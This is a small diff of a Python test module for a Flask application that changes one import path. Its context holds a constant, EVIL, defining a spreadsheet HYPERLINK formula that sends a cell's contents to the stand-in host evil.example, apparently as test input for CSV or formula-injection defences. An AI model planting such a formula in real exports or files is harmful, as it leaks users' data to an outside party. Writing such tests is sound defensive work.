@@ -10,7 +10,7 @@ from pathlib import Path
 
 from flask import Flask
 
-from tests.conftest import World, corpus, make_app
+from tests.helpers import World, corpus, make_app
 
 TEMPLATES = Path(__file__).resolve().parents[1] / "templates"
 EVIL = '=HYPERLINK("http://evil.example/?d="&C2,"查看")'
